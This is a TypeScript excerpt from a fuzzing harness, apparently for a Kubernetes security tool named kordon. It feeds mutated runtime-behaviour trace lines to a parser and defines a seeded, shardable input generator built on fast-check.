let behaviourDir: string | undefined;
registerReader<Buffer>({
  name: 'runtime behaviour (syscalls, capabilities, flows): mutated Hubble, Tetragon, Kubescape, SPO, Inspektor Gadget, kordon lines',
  input: mutatedFrom(BEHAVIOUR_SEEDS),
  async run(buf) {
    behaviourDir ??= await fsp.mkdtemp(path.join(os.tmpdir(), 'kordon-fuzz-behaviour-'));
    const file = path.join(behaviourDir, 'trace.jsonl');
    await fsp.writeFile(file, buf);
    const summary = new BehaviourSummary();
    await readBehaviourFile(file, summary);
    checkNamed(summary.problems, file);
    return JSON.stringify(summary.problems);
  },
});

/**
 * Input n of a seed, on its own: a generator seeded from (seed, n), and the bias fast-check gives
 * its run n (small values more often in early runs). Any input is made without the ones before
 * it, so a run can start anywhere (--from) and be split between processes (--shard).
 */
export function inputAt<T>(arb: fc.Arbitrary<T>, seed: number, n: number): T {
  const mixed = Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(n, 0xc2b2ae35);
  const frequency = 2 + Math.floor(Math.log10(n));
  return arb.generate(new fc.Random(xorshift128plus(mixed)), frequency).value;
}
